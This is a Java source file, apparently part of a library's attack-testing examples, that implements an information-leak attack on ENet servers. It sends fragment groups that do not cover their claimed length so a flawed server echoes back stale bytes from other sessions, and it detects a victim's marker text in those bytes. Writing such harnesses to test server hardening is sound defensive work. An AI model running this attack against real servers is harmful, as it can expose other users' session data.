package dev.entitynet.examples.enetattack;

import dev.entitynet.examples.Arguments;
import dev.entitynet.examples.enetattack.session.MilliClock;
import dev.entitynet.examples.enetattack.session.RawPeer;
import dev.entitynet.examples.enetattack.session.SessionListener;
import dev.entitynet.examples.enetattack.wire.SendFragmentCommand;
import dev.entitynet.transport.enet.protocol.Protocol;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicBoolean;

/**
 * Information leak through fragment groups that do not tile their claimed length: two pieces whose
 * count completes the group but whose bytes cover only part of it (a gap, or both at offset 0).
 * A server that delivers such a packet hands the application bytes nobody sent, typically left in
 * a reused buffer by another session; the echo server sends them back. Meanwhile a victim client
 * pushes packets full of a marker text through the server, so foreign bytes can be recognised.
 * Every tenth group is an honest two-piece packet that must come back intact (the echo path works).
 */
final class LeakAttack implements Attack {
    static final byte[] MARKER = "VICTIM-SECRET-".getBytes(StandardCharsets.US_ASCII);

    @Override
    public String name() {
        return "leak";
    }

    @Override
    public String usage() {
        return "[--groups 200] [--total 1000] [--covered 16] [--seconds 2] [--victim-rate 200] [--victim-bytes 1000]";
    }

    @Override
    public Set<String> options() {
        return Set.of("groups", "total", "covered", "seconds", "victim-rate", "victim-bytes");
    }

    @Override
    public Results run(Target target, Arguments a) throws InterruptedException {
        int groups = a.intValue("groups", 200);
        int total = a.intValue("total", 1000);
        int coveredBytes = a.intValue("covered", 16);
        if (total > 1200 || coveredBytes >= total || coveredBytes < 8) {
            throw new IllegalArgumentException("--total must be at most 1200 (so the echo fits one datagram) and above --covered (8 or more)");
        }
        long millis = (long) (a.doubleValue("seconds", 2) * 1000);
        Results results = new Results(name());
        RawPeer victim = RawPeer.open(target.anyLocal(), target.server(), target.channels(), target.random().nextInt(), true);
        RawPeer attacker = RawPeer.open(target.anyLocal(), target.server(), target.channels(), target.random().nextInt(), false);
        // the control groups come from a connection of their own: a group that never completes stalls
        // the reliable channel of the connection that sent it (ENet's ordering), and that is the attacker's
        RawPeer honest = RawPeer.open(target.anyLocal(), target.server(), target.channels(), target.random().nextInt(), false);
        try {
            if (victim.connect(5000) < 0 || attacker.connect(5000) < 0 || honest.connect(5000) < 0) {
                return results.put("connected", false);
            }
            AtomicBoolean stop = new AtomicBoolean();
            Thread victimThread = new Thread(() -> victimTraffic(victim, a.doubleValue("victim-rate", 200), a.intValue("victim-bytes", 1000), stop),
                    "leak-victim");
            victimThread.start();
            Thread.sleep(200); // let the victim's packets pass through the server's buffers first
            Echoes echoes = new Echoes();
            Map<Integer, FragmentPlan> plans = new HashMap<>();
            RatePacer pacer = new RatePacer(groups * 1000.0 / Math.max(1, millis));
            int sent = 0;
            while (sent < groups) {
                for (int n = pacer.due(); n > 0 && sent < groups; n--, sent++) {
                    FragmentPlan.Shape shape = sent % 10 == 9 ? FragmentPlan.Shape.CONTROL
                            : sent % 2 == 0 ? FragmentPlan.Shape.GAP : FragmentPlan.Shape.OVERLAP;
                    FragmentPlan plan = new FragmentPlan(sent, shape, total, coveredBytes);
                    plans.put(sent, plan);
                    sendGroup(plan.tiles() ? honest : attacker, plan);
                }
                attacker.poll(1, echoes.listener(plans));
                honest.poll(0, echoes.listener(plans));
                pacer.pause();
            }
            long end = MilliClock.millis() + 1000;
            while (MilliClock.millis() < end) {
                attacker.poll(5, echoes.listener(plans));
                honest.poll(5, echoes.listener(plans));
            }
            stop.set(true);
            victimThread.join();
            long controls = plans.values().stream().filter(FragmentPlan::tiles).count();
            results.put("connected", true)
                    .put("groups_sent", sent)
                    .put("untiled_sent", sent - controls)
                    .put("control_sent", controls)
                    .put("control_echoed", echoes.controlEchoed)
                    .put("untiled_echoed", echoes.untiledEchoed)
                    .put("unsent_bytes_echoed", echoes.unsentBytes)
                    .put("foreign_nonzero_bytes", echoes.nonZeroUnsent)
                    .put("victim_marker_hits", echoes.markerHits)
                    .put("unmatched_echoes", echoes.unmatched)
                    .put("duplicate_echoes", echoes.duplicates)
                    .put("leaked", echoes.unsentBytes > 0 || echoes.unmatched > 0);
            victim.disconnect();
            attacker.disconnect();
            honest.disconnect();
        } finally {
            victim.close();
            attacker.close();
            honest.close();
        }
        return results;
    }

    private static void sendGroup(RawPeer attacker, FragmentPlan plan) {
        int first = attacker.nextSequence(0);
        int second = attacker.nextSequence(0);
        ByteBuffer out = attacker.begin(true);
        new SendFragmentCommand(0, first, first, 2, 0, plan.totalLength, 0).write(out, plan.content, 0, plan.pieceLength);
        new SendFragmentCommand(0, second, first, 2, 1, plan.totalLength, plan.secondOffset)
                .write(out, plan.content, plan.secondOffset, plan.pieceLength);
        attacker.send();
    }

    /** The victim: reliable packets full of the marker text, acknowledging its echoes. */
    private static void victimTraffic(RawPeer victim, double rate, int bytes, AtomicBoolean stop) {
        byte[] packet = new byte[Math.max(MARKER.length, Math.min(bytes, RawPeer.MTU - 32))];
        for (int i = 0; i < packet.length; i++) {
            packet[i] = MARKER[i % MARKER.length];
        }
        RatePacer pacer = new RatePacer(rate);
        while (!stop.get()) {
            for (int n = pacer.due(); n > 0; n--) {
                victim.sendReliable(0, packet, 0, packet.length);
            }
            victim.poll(1, SessionListener.NONE);
        }
    }

    /** Compares each echo with the group it names (once per group: retransmitted echoes are only counted). */
    private static final class Echoes {
        long controlEchoed;
        long untiledEchoed;
        long unsentBytes;
        long nonZeroUnsent;
        long markerHits;
        long unmatched;
        long duplicates;
        final Set<Integer> echoed = new HashSet<>();

        SessionListener listener(Map<Integer, FragmentPlan> plans) {
            return new SessionListener() {
                @Override
                public void received(int command, int channel, ByteBuffer datagram, int at, int length) {
                    if (command != Protocol.SEND_RELIABLE) {
                        return;
                    }
                    int group = FragmentPlan.groupOf(datagram, at, length);
                    FragmentPlan plan = plans.get(group);
                    if (plan == null) {
                        unmatched++;
                    } else if (!echoed.add(group)) {
                        duplicates++; // the server retransmitted an echo whose acknowledgement it had not seen yet
                    } else {
                        check(plan, datagram, at, length);
                    }
                }
            };
        }

        void check(FragmentPlan plan, ByteBuffer datagram, int at, int length) {
            long unsent = 0;
            long nonZero = 0;
            boolean intact = length == plan.totalLength;
            for (int i = 0; i < length; i++) {
                byte b = datagram.get(at + i);
                if (i < plan.totalLength && plan.covered[i]) {
                    intact &= b == plan.content[i];
                } else {
                    unsent++;
                    nonZero += b != 0 ? 1 : 0;
                }
            }
            if (plan.tiles()) {
                controlEchoed += intact ? 1 : 0;
            } else {
                untiledEchoed++;
            }
            unsentBytes += unsent;
            nonZeroUnsent += nonZero;
            markerHits += containsMarker(datagram, at, length) ? 1 : 0;
        }

        private static boolean containsMarker(ByteBuffer datagram, int at, int length) {
            outer:
            for (int i = 0; i + MARKER.length <= length; i++) {
                for (int j = 0; j < MARKER.length; j++) {
                    if (datagram.get(at + i + j) != MARKER[j]) {
                        continue outer;
                    }
                }
                return true;
            }
            return false;
        }
    }
}
